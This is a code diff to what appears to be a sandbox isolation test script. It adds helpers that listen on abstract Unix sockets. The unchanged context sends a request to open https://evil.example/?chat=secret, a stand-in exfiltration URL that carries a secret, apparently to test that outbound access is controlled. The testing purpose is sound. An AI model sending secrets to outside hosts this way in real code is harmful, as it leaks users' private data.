@@ -55,6 +55,7 @@ def main() -> int:
         what, where = exchange.split(">")
         os.link(what, f"{where}.new")
         Path(f"{where}.new").replace(where)
+    listeners = [_take(name) for name in filter(None, [os.environ.get("TEST_TAKES")])]
     for place in filter(None, os.environ.get("TEST_PLACES", "").split(";")):
         results[f"local {place}"] = _connect(place)
     porter = socket.socket(fileno=int(os.environ["LIGHTWELL_PORTER_FD"]))
@@ -68,7 +69,17 @@ def main() -> int:
         porter, b'{"type": "OpenAddress", "number": 20, "url": "https://evil.example/?chat=secret"}'
     )
     print(json.dumps(results))
+    for listener in listeners:
+        listener.close()
     return 0
+
+
+def _take(name: str) -> socket.socket:
+    """Listens at an abstract name."""
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listener.bind("\0" + name[1:])
+    listener.listen()
+    return listener
 
 
 def _connect(place: str) -> str:
